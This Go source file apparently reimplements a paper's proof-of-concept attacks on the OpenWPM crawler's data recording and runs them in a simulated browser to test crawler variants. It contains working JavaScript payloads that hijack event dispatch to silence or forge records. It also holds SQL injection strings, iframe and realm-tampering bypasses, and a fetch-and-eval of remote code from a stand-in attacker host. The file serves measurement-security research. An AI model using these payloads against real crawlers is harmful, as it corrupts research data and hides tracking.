// Package attacks implements the Sec. 5 proof-of-concept attacks against
// OpenWPM's data recording as reusable payloads, plus a harness that runs
// each attack against a crawler variant and evaluates whether it succeeded.
// The payloads implement the techniques of the paper's Listings 2–4 in the
// simulator's JavaScript dialect.
package attacks

import (
	"fmt"
	"strings"

	"gullible/internal/httpsim"
	"gullible/internal/jsdom"
	"gullible/internal/openwpm"
)

// RecorderShutdownJS disables JavaScript call recording by shadowing the
// event dispatcher: it learns the instrument's random event id from a
// sacrificial call, then swallows all matching events (Sec. 5.1.1).
const RecorderShutdownJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; return true; }
        if (event.type !== grabbedID) { return dispatch_fn(event); }
        return true; // event swallowed
    };
    navigator.userAgent;          // sacrificial call leaks the id
    window.__attackReady = grabbedID !== "";
    // everything after this point goes unrecorded under vanilla OpenWPM
    navigator.oscpu;
    screen.availTop;
    document.cookie = "covert=payload-set-while-unobserved";
}());`

// FakeDataInjectionJS forges measurement records after learning the event
// id, attributing fabricated calls to an innocent script (Sec. 5.2).
const FakeDataInjectionJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; }
        return dispatch_fn(event);
    };
    navigator.userAgent; // learn the id
    if (grabbedID !== "") {
        dispatch_fn(new CustomEvent(grabbedID, { detail: {
            symbol: "Navigator.plugins",
            operation: "call",
            args: "fabricated-args",
            scriptUrl: "https://innocent-cdn.example/library.js"
        }}));
    }
}());`

// SQLInjectionProbeJS attempts a classic injection through the forged-record
// channel; the storage layer must keep it inert data (Sec. 5.3).
const SQLInjectionProbeJS = `(function () {
    var dispatch_fn = document.dispatchEvent.bind(document);
    var grabbedID = "";
    document.dispatchEvent = function (event) {
        if (grabbedID === "") { grabbedID = event.type; }
        return dispatch_fn(event);
    };
    navigator.userAgent;
    if (grabbedID !== "") {
        dispatch_fn(new CustomEvent(grabbedID, { detail: {
            symbol: "x'; DROP TABLE javascript; --",
            operation: "call",
            args: "1'); DELETE FROM http_requests; --",
            scriptUrl: "https://x.example/'--.js"
        }}));
    }
}());`

// IframeBypassJS exercises the unobserved channel: a dynamically created
// iframe whose window is used immediately at creation time (Sec. 5.4.1).
const IframeBypassJS = `setTimeout(function () {
    var element = document.querySelector("#unobserved");
    var iframe = document.createElement("iframe");
    iframe.src = "/unobserved-iframe.html";
    element.appendChild(iframe);
    window.__covertUA = iframe.contentWindow.navigator.userAgent;
    window.__covertTop = iframe.contentWindow.screen.availTop;
}, 500);`

// SilentDeliveryJS loads code as plain text from an extensionless URL and
// executes it via eval, bypassing JS-only response-body recording
// (Sec. 5.4.2 / Appendix D).
const SilentDeliveryJS = `(function () {
    var stealth_code = "https://attacker-cdn.example/cheat";
    fetch(stealth_code)
        .then(function (res) { return res.text(); })
        .then(function (res) { eval(res); });
}());`

// SilentPayload is the covertly delivered code: it runs fingerprinting that
// only the JS instrument (not the HTTP instrument's JS-only store) can see.
const SilentPayload = `(function () {
    var probe = navigator.userAgent + "|" + screen.width;
    window.__silentPayloadRan = probe.length > 0;
}());`

// InstallTamperFixture is a page that rewrites a subframe's realm between
// the frame's creation and the vanilla instrument's install tick (the
// Sec. 5.4.1 window), then probes the frame's instrumented APIs.
type InstallTamperFixture struct {
	Name    string
	Payload string
}

// InstallTamperFixtures each change, in a fresh frame, one piece of realm
// state the instrument's injected script reads while it installs. The
// instrument must then install exactly as its script does in that realm.
var InstallTamperFixtures = []InstallTamperFixture{
	{"replaced Object.defineProperty",
		tamperFramePayload(`w.Object.defineProperty = function (o, k, d) { return o; };`)},
	{"Object.prototype.get accessor",
		tamperFramePayload(`Object.defineProperty(w.Object.prototype, "get", {
        get: function () { return function () { return "spoofed"; }; },
        configurable: true });`)},
	{"redefined window.navigator",
		tamperFramePayload(`Object.defineProperty(w, "navigator", {
        value: { userAgent: "spoofed" }, configurable: true, enumerable: true });`)},
	{"non-configurable Navigator.platform",
		tamperFramePayload(`Object.defineProperty(w.Navigator.prototype, "platform", {
        get: function () { return "pinned"; }, configurable: false, enumerable: true });`)},
}

// tamperFramePayload creates a frame, applies tamper to its window w before
// the frame's install tick, and probes the frame half a second later.
func tamperFramePayload(tamper string) string {
	return `var f = document.createElement("iframe");
f.src = "/unobserved-iframe.html";
document.getElementById("unobserved").appendChild(f);
var w = f.contentWindow;
` + tamper + `
setTimeout(function () {
    var c = w.document.createElement("canvas");
    window.__probe = w.navigator.userAgent + "|" + w.navigator.platform + "|" +
        w.screen.width + "|" + w.document.cookie + "|" + typeof c.toDataURL;
    c.getContext("2d");
    w.navigator.javaEnabled();
}, 500);`
}

// AttackPageHTML wraps a payload in a minimal page, with the container
// element the iframe attack needs.
func AttackPageHTML(payload string) string {
	return `<html><head></head><body><div id="unobserved"></div><script>` + payload + `</script></body></html>`
}

// Transport serves the attack pages; it implements httpsim.RoundTripper.
type Transport struct {
	Payload string
	// CSPHeader, when set, is served on the main page (the Sec. 5.1.2
	// injection-blocking attack).
	CSPHeader string
}

// RoundTrip implements httpsim.RoundTripper.
func (tr *Transport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	path := httpsim.Path(req.URL)
	host := httpsim.Host(req.URL)
	switch {
	case host == "attacker-cdn.example" && path == "/cheat":
		// extensionless, text/plain: evades all three JS-file heuristics
		return &httpsim.Response{Status: 200,
			Headers: map[string]string{"Content-Type": "text/plain"},
			Body:    SilentPayload}, nil
	case path == "/unobserved-iframe.html":
		return &httpsim.Response{Status: 200,
			Headers: map[string]string{"Content-Type": "text/html"},
			Body:    "<html></html>"}, nil
	case path == "/":
		h := map[string]string{"Content-Type": "text/html"}
		if tr.CSPHeader != "" {
			h["Content-Security-Policy"] = tr.CSPHeader
		}
		return &httpsim.Response{Status: 200, Headers: h, Body: AttackPageHTML(tr.Payload)}, nil
	}
	return &httpsim.Response{Status: 404, Headers: map[string]string{"Content-Type": "text/plain"}}, nil
}

// Result is the outcome of one attack run.
type Result struct {
	Attack    string
	Succeeded bool // true when the ATTACK worked (the crawler lost data)
	Detail    string
}

// Variant constructs a TaskManager; the harness runs each attack against
// vanilla OpenWPM and WPM_hide variants supplied by the caller.
type Variant struct {
	Name string
	// NewTM returns a fresh TaskManager wired to the given transport.
	NewTM func(tr httpsim.RoundTripper) *openwpm.TaskManager
}

const attackSite = "https://attack-site.example/"

// RunAll executes every Sec. 5 attack against the variant and reports which
// succeeded.
func RunAll(v Variant) []Result {
	return []Result{
		RunRecorderShutdown(v),
		RunFakeDataInjection(v),
		RunSQLInjectionProbe(v),
		RunCSPBlocking(v),
		RunIframeBypass(v),
		RunSilentDelivery(v),
	}
}

// RunRecorderShutdown checks whether post-attack API calls go unrecorded.
func RunRecorderShutdown(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: RecorderShutdownJS})
	tm.VisitSite(attackSite)
	calls := tm.Storage.JSCallsBySymbol()
	lost := calls["Navigator.oscpu"] == 0 && calls["Screen.availTop"] == 0
	return Result{
		Attack:    "recorder-shutdown (Listing 2)",
		Succeeded: lost,
		Detail:    fmt.Sprintf("post-attack oscpu records=%d availTop records=%d", calls["Navigator.oscpu"], calls["Screen.availTop"]),
	}
}

// RunFakeDataInjection checks whether a forged record reached storage.
func RunFakeDataInjection(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: FakeDataInjectionJS})
	tm.VisitSite(attackSite)
	var forged *openwpm.JSCall
	for i := range tm.Storage.JSCalls {
		c := &tm.Storage.JSCalls[i]
		if c.Symbol == "Navigator.plugins" && strings.Contains(c.ScriptURL, "innocent-cdn") {
			forged = c
		}
	}
	detail := "no forged record stored"
	if forged != nil {
		detail = fmt.Sprintf("forged record stored (TopURL=%s — host-set, not spoofable)", forged.TopURL)
	}
	return Result{Attack: "fake-data injection (Sec. 5.2)", Succeeded: forged != nil, Detail: detail}
}

// RunSQLInjectionProbe verifies stored fields stay inert (attack must fail).
func RunSQLInjectionProbe(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: SQLInjectionProbeJS})
	tm.VisitSite(attackSite)
	for _, c := range tm.Storage.JSCalls {
		if strings.Contains(c.Symbol, "DROP TABLE") && !strings.Contains(c.Symbol, "''") {
			return Result{Attack: "SQL injection (Sec. 5.3)", Succeeded: true,
				Detail: "unsanitised quote reached storage: " + c.Symbol}
		}
	}
	return Result{Attack: "SQL injection (Sec. 5.3)", Succeeded: false,
		Detail: "all page-controlled fields sanitised"}
}

// RunCSPBlocking checks whether a script-src policy prevented instrumentation.
func RunCSPBlocking(v Variant) Result {
	tm := v.NewTM(&Transport{
		Payload:   "navigator.userAgent;",
		CSPHeader: "script-src 'self' 'unsafe-inline'; report-uri /csp-report",
	})
	// 'unsafe-inline' lets the PAGE script run, so the only thing a strict
	// policy can block is DOM-injected instrumentation; tighten it:
	tm = v.NewTM(&Transport{
		Payload:   "navigator.userAgent;",
		CSPHeader: "script-src 'self'; report-uri /csp-report",
	})
	tm.VisitSite(attackSite)
	installed := len(tm.Storage.Visits) > 0 && tm.Storage.Visits[0].InstrumentInstalled
	return Result{
		Attack:    "CSP injection blocking (Sec. 5.1.2)",
		Succeeded: !installed,
		Detail:    fmt.Sprintf("instrument installed=%v", installed),
	}
}

// RunIframeBypass checks whether the immediate iframe access went unrecorded.
func RunIframeBypass(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: IframeBypassJS})
	tm.Cfg.DwellSeconds = 3
	tm.VisitSite(attackSite)
	var recorded bool
	for _, c := range tm.Storage.JSCalls {
		if strings.Contains(c.FrameURL, "unobserved-iframe") &&
			(c.Symbol == "Navigator.userAgent" || c.Symbol == "Screen.availTop") {
			recorded = true
		}
	}
	return Result{
		Attack:    "iframe unobserved channel (Listing 3)",
		Succeeded: !recorded,
		Detail:    fmt.Sprintf("immediate frame access recorded=%v", recorded),
	}
}

// RunSilentDelivery checks whether the covert payload evaded the JS-only
// response store (it should still execute either way).
func RunSilentDelivery(v Variant) Result {
	tm := v.NewTM(&Transport{Payload: SilentDeliveryJS})
	tm.Cfg.DwellSeconds = 3
	tm.VisitSite(attackSite)
	var stored bool
	for _, f := range tm.Storage.ScriptFiles {
		if strings.Contains(f.Content, "__silentPayloadRan") {
			stored = true
		}
	}
	return Result{
		Attack:    "silent JS delivery (Listing 4)",
		Succeeded: !stored,
		Detail:    fmt.Sprintf("covert payload stored=%v", stored),
	}
}

// VanillaVariant builds the standard vanilla-OpenWPM attack target.
func VanillaVariant() Variant {
	return Variant{
		Name: "WPM (vanilla)",
		NewTM: func(tr httpsim.RoundTripper) *openwpm.TaskManager {
			return openwpm.NewTaskManager(openwpm.CrawlConfig{
				OS: jsdom.Ubuntu, Mode: jsdom.Regular,
				Transport: tr, DwellSeconds: 2,
				JSInstrument: true, HTTPInstrument: true, CookieInstrument: true,
				HTTPFilterJSOnly: true,
			})
		},
	}
}
